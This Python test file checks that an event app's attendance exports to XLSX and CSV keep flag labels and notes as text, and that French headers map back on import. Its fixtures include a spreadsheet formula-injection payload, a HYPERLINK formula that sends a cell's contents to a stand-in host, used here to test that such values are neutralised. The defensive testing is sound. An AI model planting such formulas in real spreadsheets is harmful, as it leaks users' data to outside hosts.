"""The attendance export carries each registration's flags (the organiser's labels, in the
reader's language) and its note, as plain text: a label or a note that looks like a formula stays
text, and a French workbook's headers are ones the importer reads back ("Signalements",
"Remarque")."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from mornings_desktop.imports.mapping import mapping_for
from mornings_desktop.services import categories, exports, flag_list, mornings, registrations
from mornings_desktop.services.workspace import Workspace
from tests.unit.documents.test_formula_injection import formulas

HOSTILE_LABEL = '=HYPERLINK("http://x.example/?"&A2,"VIP")'
HOSTILE_NOTE = "=1+1 arrive en fauteuil"


@pytest.fixture
def morning(ws: Workspace) -> str:
    categories.ensure_defaults(ws)
    morning = mornings.create(ws, mornings.MorningInput(title="Matinale", date="2026-12-10"))
    nuts = flag_list.add_flag(ws, "Allergie aux noix", en="Nut allergy")
    odd = flag_list.add_flag(ws, HOSTILE_LABEL)
    flag_list.retire_flag(ws, nuts.key)  # retired: still named where held
    registrations.register_person(
        ws, morning, {"first_name": "Rim", "last_name": "Fassi"},
        flags=["payment_due", nuts.key, odd.key], note=HOSTILE_NOTE,
    )  # fmt: skip
    registrations.register_person(ws, morning, {"first_name": "Omar", "last_name": "Alaoui"})
    return morning


def _rows(path: Path, sheet: str) -> dict[str, dict[str, object]]:
    book = openpyxl.load_workbook(path)
    rows = list(book[sheet].iter_rows(values_only=True))
    header = [str(h) for h in rows[0]]
    return {str(r[header.index(header[1])]): dict(zip(header, r, strict=True)) for r in rows[1:]}


def test_flags_and_note_in_the_workbook_in_the_readers_language(
    ws: Workspace, morning: str, tmp_path: Path
) -> None:
    fr, en = tmp_path / "presences.xlsx", tmp_path / "attendance.xlsx"
    exports.export_attendance(ws, morning, fr, language="fr")
    exports.export_attendance(ws, morning, en, language="en")
    assert formulas(fr) == [] and formulas(en) == []
    rim = _rows(fr, "Présences")["Rim"]
    assert rim["Signalements"] == f"À encaisser, Allergie aux noix, {HOSTILE_LABEL}"
    assert rim["Remarque"] == HOSTILE_NOTE
    assert _rows(fr, "Présences")["Omar"]["Signalements"] is None
    rim_en = _rows(en, "Attendance")["Rim"]
    assert rim_en["Flags"] == f"Payment due, Nut allergy, {HOSTILE_LABEL}"
    assert rim_en["Note"] == HOSTILE_NOTE
    book = openpyxl.load_workbook(fr)
    for row in book["Présences"].iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                assert cell.data_type == "s", cell.coordinate
    # The French headers are ones the importer maps back to flags and note.
    header = [c.value for c in book["Présences"][1]]
    guessed = mapping_for(tmp_path, [str(h) for h in header])
    assert guessed.index_of("flags") == header.index("Signalements")
    assert guessed.index_of("note") == header.index("Remarque")


def test_flags_and_note_in_the_csv_neutralised(ws: Workspace, morning: str, tmp_path: Path) -> None:
    path = tmp_path / "presences.csv"
    exports.export_attendance(ws, morning, path, language="fr")
    text = path.read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(text.splitlines(), delimiter=";"))
    rim = next(r for r in rows if r["Prénom"] == "Rim")
    assert rim["Signalements"].startswith("À encaisser, Allergie aux noix, ")
    assert rim["Remarque"] == "'" + HOSTILE_NOTE  # neutralised like a name would be


def test_a_person_hidden_by_an_erasure_request_shows_no_flags_or_note(
    ws: Workspace, morning: str, tmp_path: Path
) -> None:
    from mornings_desktop.services import erasure

    rim = next(r for r in registrations.list_registrations(ws, morning) if r.first_name == "Rim")
    erasure.request_erasure(ws, rim.person_id)
    path = tmp_path / "presences.xlsx"
    exports.export_attendance(ws, morning, path, language="fr")
    book = openpyxl.load_workbook(path)
    values = {c.value for row in book["Présences"].iter_rows() for c in row}
    assert HOSTILE_NOTE not in values and not any(
        isinstance(v, str) and "Allergie" in v for v in values
    )
